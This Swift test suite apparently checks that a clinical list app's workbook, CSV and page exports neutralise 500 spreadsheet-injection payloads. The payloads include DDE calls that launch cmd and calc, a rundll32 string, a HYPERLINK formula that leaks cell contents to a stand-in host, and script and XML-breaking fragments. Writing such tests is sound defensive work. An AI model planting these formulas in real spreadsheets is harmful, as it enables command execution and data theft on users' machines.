import Foundation
import Tabular
import Testing

@testable import Lists

/// What a foreign text may try in a spreadsheet: 500 of them, in each text field.
@Suite struct SpreadsheetInjectionTests {
    static let payloads: [String] = {
        let starts = [
            "=", "+", "-", "@", "\t", "\r", "\n", "=\t", "\t=", "\r\n=", "+-", "-+", "@=", "==", "=+", "\u{B}=", " =",
            "'=",
            "\u{FEFF}=", "_x003D_",
        ]
        let bodies = [
            "1+1", "SUM(A1:A9)", "cmd|' /C calc'!A0", "HYPERLINK(\"http://x.invalid?\"&A1,\"ok\")", "WEBSERVICE(\"x\")",
            "IMPORTXML(\"x\",\"//a\")", "DDE(\"cmd\";\"/C calc\";\"x\")", "A1", "-1", "@SUM(1)", "\"&A1&\"", "<f>1</f>",
            "</t></si><f>1</f>", "]]><c><f>1</f></c>", "<script>alert(1)</script>", "a,b", "a;=1", "a\tb", "a\nb=1",
            "a\"b", "{1,2}", "rundll32|'x'!A1", "&lt;f&gt;", "é=1", "0",
        ]
        return starts.flatMap { start in bodies.map { start + $0 } }
    }()

    private static func row(_ field: Int, _ text: String) -> ListRow {
        func at(_ place: Int) -> String { place == field ? text : "x" }
        return ListRow(
            rankInPractice: 1, rank: 1, personID: at(0), risk: 0.5, factors: [.init(name: at(1), contribution: -1)],
            band: at(2), reasons: [at(3)], ageBand: at(4), sex: at(5), caseloads: [at(6)], alsoOn: [at(7)],
            standing: .new, changes: [at(8)])
    }

    private static func header(_ field: Int, _ text: String) -> ListHeader {
        func at(_ place: Int) -> String { place == field ? text : "x" }
        return ListHeader(
            programme: ListProgramme(id: at(0), title: at(1), rule: at(2), riskOf: at(3)),
            place: ListPlace(kind: .practice, code: at(4), name: at(5)), indexDate: at(6), runDate: at(7),
            isDemonstration: false, modelName: at(8), modelVersion: at(9),
            counts: ListCounts(
                eligible: 1, shown: 1, leftOut: [.init(why: at(10), people: 1)], belowTheLine: 0, nearMisses: 0),
            sources: [ListSource(name: at(11), extractedOn: at(12), completeTo: at(13), note: at(14))],
            notes: [at(15)], notScored: [.init(why: at(16), people: 1)])
    }

    @Test("There are 500 of them, no two alike")
    func count() { #expect(Set(Self.payloads).count == 500) }

    @Test("In no field of a person does a text become a formula of a workbook", arguments: 0..<9)
    func workbookRows(field: Int) throws {
        let rows = Self.payloads.map { Self.row(field, $0) }
        try check(PracticeWorkbook.bytes(PracticeWorkbookTests.lists([.example(rows: rows)])))
    }

    @Test("In no field of a header does a text become a formula of a workbook", arguments: 0..<17)
    func workbookHeaders(field: Int) throws {
        for start in stride(from: 0, to: 500, by: 100) {
            let documents = Self.payloads[start..<start + 100].map {
                ListDocument(header: Self.header(field, $0), rows: [])
            }
            try check(PracticeWorkbook.bytes(PracticeWorkbookTests.lists(documents)))
        }
    }

    @Test("Nor does the name of a place, or of a person who could not be scored")
    func workbookPlaces() throws {
        for payload in Self.payloads {
            let place = ListPlace(kind: .practice, code: payload, name: payload)
            try check(
                PracticeWorkbook.bytes(
                    PracticeWorkbookTests.lists(
                        [], place: place, notScored: [.init(personID: payload, why: payload)])))
        }
    }

    private func check(_ bytes: [UInt8]) throws {
        let parts = try WorkbookParts(bytes)
        for sheet in parts.worksheets { #expect(sheet.firstMatch(of: #/<f[ />]/#) == nil) }
        for text in parts.strings {
            let first = text.unicodeScalars.first
            #expect(first.map { "=+-@\t\r\n".unicodeScalars.contains($0) } != true, "\(text.debugDescription)")
        }
        // An escape of the format's own must not turn into what it stands for.
        #expect(parts.parts["xl/sharedStrings.xml"]?.contains("<t>_x003D_") != true)
    }

    @Test("In no field does a text become a formula of a CSV", arguments: 0..<9)
    func csvRows(field: Int) throws {
        let sink = MemorySink()
        try ListCSVWriter.write(.example(rows: Self.payloads.map { Self.row(field, $0) }), to: sink)
        for text in Self.fields(sink.text) where Double(text) == nil {
            #expect(text.unicodeScalars.first.map { "=+-@\t\r\n".unicodeScalars.contains($0) } != true)
        }
        let people = MemorySink()
        try PersonAndReasonCSV.write(Self.payloads.map { .init(personID: $0, why: $0) }, to: people)
        for text in Self.fields(people.text) where Double(text) == nil {
            #expect(text.unicodeScalars.first.map { "=+-@\t\r\n".unicodeScalars.contains($0) } != true)
        }
    }

    @Test("On a page no text becomes markup", arguments: 0..<17)
    func pages(field: Int) {
        for payload in Self.payloads where payload.contains("<") {
            let rows = field < 9 ? [Self.row(field, payload)] : []
            let page = ListPage.text(ListDocument(header: Self.header(field, payload), rows: rows))
            #expect(!page.contains("<f>") && !page.contains("<script") && !page.contains("</t>"))
        }
    }

    /// Every field of a CSV text.
    private static func fields(_ text: String) -> [String] {
        var (fields, field, isQuoted) = ([String](), "".unicodeScalars, false)
        for scalar in text.unicodeScalars {
            switch scalar {
            case "\"":
                isQuoted.toggle()
                // A doubled quote closes and opens again: it is a character of the field.
                if isQuoted, !field.isEmpty { field.append(scalar) }
            case ",",
                "\n" where !isQuoted:
                if isQuoted {
                    field.append(scalar)
                } else {
                    fields.append(String(field))
                    field = "".unicodeScalars
                }
            default: field.append(scalar)
            }
        }
        return fields
    }
}
